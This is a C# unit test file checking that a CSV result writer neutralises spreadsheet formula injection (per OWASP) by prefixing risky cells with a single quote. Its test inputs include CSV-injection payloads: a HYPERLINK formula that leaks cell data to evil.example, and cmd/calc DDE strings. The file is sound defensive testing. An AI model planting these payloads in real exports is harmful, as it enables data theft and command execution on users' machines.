namespace AnalyticsCenter.Query.Tests;

/// <summary>
/// CSV injection: text a spreadsheet would run as a formula is written quoted behind a single quote (OWASP), numbers
/// keep their sign, and the raw option writes text as it is.
/// </summary>
public sealed class CsvFormulaTests
{
    private static async Task<string> Csv(string text, ResultWriterOptions? options = null) =>
        await Results.TextAsync(Results.Table([("message", typeof(string))], [text]), ResultFormat.Csv, options);

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"open\"\")\"")]
    [InlineData("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\"")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\"")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"")]
    [InlineData("\t=1+1", "\"'\t=1+1\"")]
    [InlineData("\tplain", "\"'\tplain\"")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("\n=1+1", "\"'\n=1+1\"")]
    [InlineData("  =1+1", "\"'  =1+1\"")]
    [InlineData("\u00A0@SUM(A1)", "\"'\u00A0@SUM(A1)\"")]
    [InlineData("\uFF1D1+1", "\"'\uFF1D1+1\"")]
    [InlineData("\uFF0B1", "\"'\uFF0B1\"")]
    [InlineData("\uFF0D1", "\"'\uFF0D1\"")]
    [InlineData("\uFF20SUM(A1)", "\"'\uFF20SUM(A1)\"")]
    [InlineData("=", "\"'=\"")]
    [InlineData("-5", "\"'-5\"")]
    [InlineData("+593", "\"'+593\"")]
    public async Task Text_that_starts_a_formula_is_quoted_behind_a_single_quote(string text, string field) =>
        Assert.Equal($"message\r\n{field}\r\n", await Csv(text));

    [Theory]
    [InlineData("a=b", "a=b")]
    [InlineData("1+1", "1+1")]
    [InlineData("e-mail me@example.com", "e-mail me@example.com")]
    [InlineData("'quoted", "'quoted")]
    [InlineData(" padded ", " padded ")]
    [InlineData("a;=1+1", "\"a;=1+1\"")]
    [InlineData("a\t=1+1", "\"a\t=1+1\"")]
    public async Task Text_with_a_formula_sign_only_inside_is_kept_and_a_separator_inside_is_quoted(string text, string field) =>
        Assert.Equal($"message\r\n{field}\r\n", await Csv(text));

    [Fact]
    public async Task Numbers_keep_their_sign_and_stay_numbers()
    {
        var reader = Results.Table(
            [("n", typeof(long)), ("m", typeof(decimal)), ("x", typeof(double)), ("y", typeof(float))],
            [-3L, -12.5m, double.NegativeInfinity, -0.5f]);

        Assert.Equal("n,m,x,y\r\n-3,-12.5,-Infinity,-0.5\r\n", await Results.TextAsync(reader, ResultFormat.Csv));
    }

    [Fact]
    public async Task A_column_name_that_starts_a_formula_is_neutralised_too()
    {
        var reader = Results.Table([("=1+1", typeof(long)), ("-total", typeof(long))], [1L, -1L]);

        Assert.Equal("\"'=1+1\",\"'-total\"\r\n1,-1\r\n", await Results.TextAsync(reader, ResultFormat.Csv));
    }

    [Fact]
    public async Task The_raw_option_writes_text_as_it_is()
    {
        var raw = new ResultWriterOptions { RawCsv = true };

        Assert.Equal("message\r\n=1+1\r\n", await Csv("=1+1", raw));
        Assert.Equal("message\r\n\"=HYPERLINK(\"\"x\"\")\"\r\n", await Csv("=HYPERLINK(\"x\")", raw));
    }

    [Fact]
    public async Task Json_and_the_table_are_not_changed()
    {
        Assert.Equal("[\n{\"message\":\"=1+1\"}\n]\n", await Results.TextAsync(Results.Table([("message", typeof(string))], ["=1+1"]), ResultFormat.Json));
        Assert.Contains("│ =1+1    │",
            await Results.TextAsync(Results.Table([("message", typeof(string))], ["=1+1"]), ResultFormat.Table), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("", false)]
    [InlineData(" ", false)]
    [InlineData("\t", true)]
    [InlineData("\r", true)]
    [InlineData("x=", false)]
    [InlineData(" \t -1", true)]
    public void Starts_formula_looks_past_leading_whitespace(string text, bool expected) =>
        Assert.Equal(expected, CsvResultWriter.StartsFormula(text));
}
